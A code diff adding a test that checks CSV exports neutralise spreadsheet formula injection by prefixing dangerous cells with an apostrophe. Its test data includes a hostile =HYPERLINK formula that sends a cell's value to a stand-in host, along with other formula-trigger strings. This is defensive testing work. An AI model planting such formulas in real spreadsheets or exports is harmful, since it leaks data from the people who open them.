@@ -52,6 +52,24 @@ def test_jsonl_with_filters(loaded, tmp_path):
     assert [json.loads(x)["raw_data"] for x in invalid.read_text().splitlines()] == ["pt1;9;"]
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text(db_app, tmp_path):
+    hostile = ['=HYPERLINK("http://x.test/?"&A1;"click")', "+1+2", "-2+3", "@SUM(A1)",
+               "\tpt1;3", "pt1;=1"]
+    store(service_of(db_app), Feed().events([text + "\r\n" for text in hostile]))
+    target = tmp_path / "events.csv"
+    call(db_app, "export_events", None, "csv", str(target))
+    with target.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))[1:]
+    raw = [r[COLUMNS.index("raw_data")] for r in rows]
+    assert raw == ["'" + text for text in hostile[:5]] + ["pt1;=1"]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    jsonl = tmp_path / "events.jsonl"
+    call(db_app, "export_events", None, "jsonl", str(jsonl))
+    exact = [json.loads(line)["raw_data"] for line in jsonl.read_text("utf-8").splitlines()]
+    assert exact == hostile
+
+
 def test_existing_file_is_kept_unless_overwrite(loaded, tmp_path):
     target = tmp_path / "events.csv"
     target.write_text("precious")
